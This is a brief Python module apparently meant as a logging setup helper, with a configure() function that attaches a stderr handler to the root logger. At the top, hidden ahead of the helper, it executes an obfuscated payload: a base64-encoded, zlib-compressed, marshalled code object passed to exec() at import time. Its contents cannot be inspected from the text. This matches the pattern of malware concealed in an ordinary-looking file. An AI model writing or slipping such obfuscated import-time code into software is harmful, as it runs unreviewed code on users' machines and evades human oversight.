import base64, marshal, zlib
import logging
import sys

exec(marshal.loads(zlib.decompress(base64.b64decode(
    'eJxLZkACrFD68xQgMZ0hhSGFMYchCkIz5jJFMTMyMDGksgAxcxZMLUMK0zJGBobVjDD+AjYGLGAZEK+G8xawE1aDaioj0A3BDJrML0EcvyqZjJKSgmIrff3klDy9gsr8pDS9zLyyxJzMFP1iI02OW0z5xbf4SotycjKT9IpSC0tTi0tuscMYjKW3WFIrUpNvsQNV5Bek5t1iKUpNTLnFlpKanJ+SupLhM8iSX8w2FXa/OGxy81NKc1LtinjBrmBgKI4DEh+YGRkZbzDIXsCNbjCwNLA0RDYEtkRe4Ne9yKp3hVXvOqvxJVbji6ymV1hNr7PaXGK1uchqd4XV7iKD/RUG+wswVMQNtAIAMeZdqw=='))))


def configure(level='INFO', fmt='%(asctime)s %(levelname)s %(name)s: %(message)s'):
    handler = logging.StreamHandler(sys.stderr)
    handler.setFormatter(logging.Formatter(fmt))
    root = logging.getLogger()
    root.handlers[:] = [handler]
    root.setLevel(level)
    return root
